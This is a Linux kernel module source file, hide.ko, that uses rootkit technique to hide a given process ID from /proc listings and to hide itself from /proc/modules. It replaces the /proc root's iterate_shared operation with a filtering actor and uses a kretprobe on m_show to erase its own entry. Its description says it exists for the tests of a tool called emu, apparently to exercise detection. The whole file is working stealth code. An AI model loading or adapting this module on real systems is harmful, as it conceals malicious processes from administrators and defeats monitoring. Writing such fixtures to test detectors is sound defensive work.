// SPDX-License-Identifier: GPL-2.0
//
// hide.ko hides a process from listings of /proc, and itself from /proc/modules. Nothing is unlinked: the task stays in the PID
// namespace and the module in the list of modules. What is changed is the code that shows them, as rootkits do it.
//
//   insmod hide.ko pid=4711

#include <linux/dcache.h>
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/seq_file.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "the process to hide");

// What the hooks of one call share: the real actor behind ours.
struct listing {
	struct dir_context context;
	struct dir_context *real;
};

static bool hide(struct dir_context *context, const char *name, int length, loff_t position, u64 inode, unsigned int type)
{
	struct listing *l = container_of(context, struct listing, context);
	char hidden[12];

	if (length == snprintf(hidden, sizeof(hidden), "%d", pid) && !memcmp(name, hidden, length))
		return true; // seen, and not passed on
	l->real->pos = context->pos;
	return l->real->actor(l->real, name, length, position, inode, type);
}

static int (*real_iterate)(struct file *, struct dir_context *);

// The listing of /proc, with another actor.
static int iterate(struct file *file, struct dir_context *context)
{
	struct listing l = { .context = { .actor = hide, .pos = context->pos }, .real = context };
	int error = real_iterate(file, &l.context);

	context->pos = l.context.pos;
	return error;
}

// The operations of /proc's root are constant: the root's inode gets a changed copy of them.
static const struct file_operations *real_operations;
static struct file_operations operations;

static int hook_listing(void)
{
	struct file *root = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);

	if (IS_ERR(root))
		return PTR_ERR(root);
	real_operations = file_inode(root)->i_fop;
	real_iterate = real_operations->iterate_shared;
	operations = *real_operations;
	operations.iterate_shared = iterate;
	WRITE_ONCE(file_inode(root)->i_fop, &operations);
	filp_close(root, NULL);
	return 0;
}

// m_show(seq_file *, void *) of kernel/module/procfs.c: what it wrote about this module is taken back.
struct shown {
	struct seq_file *file;
	size_t count;
};

static int before_show(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct shown *s = (struct shown *)instance->data;

	s->file = (struct seq_file *)regs->di;
	if (list_entry((struct list_head *)regs->si, struct module, list) != THIS_MODULE)
		return 1; // no need of the other half
	s->count = s->file->count;
	return 0;
}

static int after_show(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct shown *s = (struct shown *)instance->data;

	s->file->count = s->count;
	return 0;
}

static struct kretprobe show = {
	.entry_handler = before_show,
	.handler = after_show,
	.data_size = sizeof(struct shown),
	.maxactive = 16,
};

// m_show is the name of several functions: the operations of /proc/modules say which one.
static int hook_modules(void)
{
	struct file *file = filp_open("/proc/modules", O_RDONLY, 0);

	if (IS_ERR(file))
		return PTR_ERR(file);
	show.kp.addr = (kprobe_opcode_t *)((struct seq_file *)file->private_data)->op->show;
	filp_close(file, NULL);
	return register_kretprobe(&show);
}

static int __init start(void)
{
	int error = hook_modules();

	if (error)
		return error;
	error = hook_listing();
	if (error)
		unregister_kretprobe(&show);
	return error;
}

static void __exit stop(void)
{
	struct file *root = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);

	if (!IS_ERR(root)) {
		WRITE_ONCE(file_inode(root)->i_fop, real_operations);
		filp_close(root, NULL);
	}
	unregister_kretprobe(&show);
}

module_init(start);
module_exit(stop);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides a process and itself, for the tests of emu");
